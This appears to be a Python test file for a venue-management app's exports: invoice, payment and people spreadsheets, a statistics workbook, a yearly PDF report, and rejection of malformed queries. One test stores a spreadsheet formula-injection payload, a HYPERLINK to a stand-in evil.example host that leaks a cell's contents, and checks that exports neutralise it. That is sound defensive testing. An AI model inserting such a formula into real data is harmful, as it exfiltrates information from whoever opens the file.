"""Exports of a place: its rows only, the columns a treasurer needs, no cell that runs as a
formula; the statistics as a workbook; the yearly report a funder reads."""

from __future__ import annotations

import csv
import io

import httpx
from fpdf import FPDF
from openpyxl import load_workbook
from sqlalchemy import text

from kernel.db import Database
from tests.reports.support import Seeded

MARCH = "from=2027-03-01&to=2027-04-01"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1;"clic")'


def _rows(response: httpx.Response) -> list[tuple[object, ...]]:
    assert response.status_code == 200, response.text
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))


async def test_invoices_export_names_client_status_due_date_and_order(
    api: httpx.AsyncClient, seeded: Seeded
) -> None:
    url = f"/api/places/{seeded.lab.place_id}/exports/invoices?{MARCH}&format=xlsx"
    header, *rows = _rows(await api.get(url, headers=seeded.manager.headers))
    assert header[:5] == ("Numéro", "Type", "Émis le", "Corrige", "Client")
    assert {"État", "Échéance", "Bon de commande"} <= set(header)
    # The cheque recorded for A's printer session issued one invoice, paid.
    (invoice,) = rows
    row = dict(zip(header, invoice, strict=True))
    assert (row["Type"], row["Client"], row["État"]) == ("Facture", "a", "Payée")
    assert row["Montant TTC (€)"] == 24.0


async def test_payments_and_people_exports_hold_the_place_s_rows_only(
    api: httpx.AsyncClient, seeded: Seeded
) -> None:
    base = f"/api/places/{seeded.lab.place_id}/exports"
    header, *payments = _rows(
        await api.get(f"{base}/payments?{MARCH}&format=xlsx", headers=seeded.manager.headers)
    )
    assert {p[0] for p in payments} == seeded.references
    net = dict(zip(header, zip(*payments, strict=True), strict=True))["Net (€)"]
    assert sum(net) == 24.0 + 18.7 + 36.0  # the cancelled booking was refunded whole
    header, *people = _rows(
        await api.get(f"{base}/people?{MARCH}&format=xlsx", headers=seeded.manager.headers)
    )
    # C also booked the other place's room: counted there, not here.
    assert sorted((p[0], p[3], p[4]) for p in people) == [("a", 1, 1), ("b", 1, 0), ("c", 1, 0)]


async def test_no_exported_cell_runs_as_a_formula(
    api: httpx.AsyncClient, seeded: Seeded, database: Database
) -> None:
    async with database.writer() as session, session.begin():
        await session.exec(  # type: ignore[call-overload]
            text("UPDATE user_account SET display_name = :n WHERE id = :id").bindparams(
                n=HOSTILE, id=seeded.citizen_a.user_id
            )
        )
    base = f"/api/places/{seeded.lab.place_id}/exports/bookings?{MARCH}"
    as_csv = await api.get(f"{base}&format=csv", headers=seeded.manager.headers)
    assert as_csv.headers["content-type"].startswith("text/csv")
    names = {line[6] for line in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")))}
    assert "'" + HOSTILE in names and HOSTILE not in names
    workbook = load_workbook(
        io.BytesIO((await api.get(f"{base}&format=xlsx", headers=seeded.manager.headers)).content)
    )
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no formula cell at all
    assert "'" + HOSTILE in {c.value for c in cells}


async def test_the_statistics_workbook_and_the_yearly_report(
    api: httpx.AsyncClient, seeded: Seeded
) -> None:
    place = f"/api/places/{seeded.lab.place_id}"
    book = load_workbook(
        io.BytesIO(
            (
                await api.get(
                    f"{place}/statistics/export?period=month&at=2027-03&format=xlsx",
                    headers=seeded.manager.headers,
                )
            ).content
        )
    )
    assert book.sheetnames[:3] == ["Synthèse", "Occupation", "Catégories"]
    summary = dict(book["Synthèse"].iter_rows(min_row=2, values_only=True))
    assert (summary["Réservations"], summary["Nouvelles personnes"]) == (3, 2)
    assert summary["Recettes TTC (€)"] == 78.7
    report = await api.get(f"{place}/activity-report?year=2027", headers=seeded.manager.headers)
    assert report.status_code == 200 and report.content.startswith(b"%PDF")
    assert report.headers["content-disposition"].endswith('-2027.pdf"')
    refused = await api.get(f"{place}/activity-report?year=2027", headers=seeded.citizen_a.headers)
    assert refused.status_code == 403
    assert FPDF  # fpdf2 wrote it: a reader opens what it writes (checked by the header)


async def test_malformed_queries_are_refused_as_bad_input(
    api: httpx.AsyncClient, seeded: Seeded
) -> None:
    place = f"/api/places/{seeded.lab.place_id}"
    for query in (
        f"{place}/statistics?period=week",
        f"{place}/statistics?period=month&at=2027-03-01T00:00",
        f"{place}/statistics/export?format=pdf",
        f"{place}/exports/secrets?{MARCH}",
        f"{place}/exports/bookings?from=2027-03-01",
        f"{place}/exports/bookings?from=2020-01-01&to=2027-01-01",
        f"{place}/activity-report?year=1789",
        "/api/statistics?at=2027-Q9&period=quarter",
    ):
        answer = await api.get(query, headers=seeded.manager.headers)
        if query.startswith("/api/statistics"):
            assert answer.status_code == 403, query  # a manager: refused before reading it
            continue
        assert answer.status_code in (400, 422), (query, answer.status_code, answer.text)
        assert answer.headers["content-type"].startswith("application/problem+json"), query
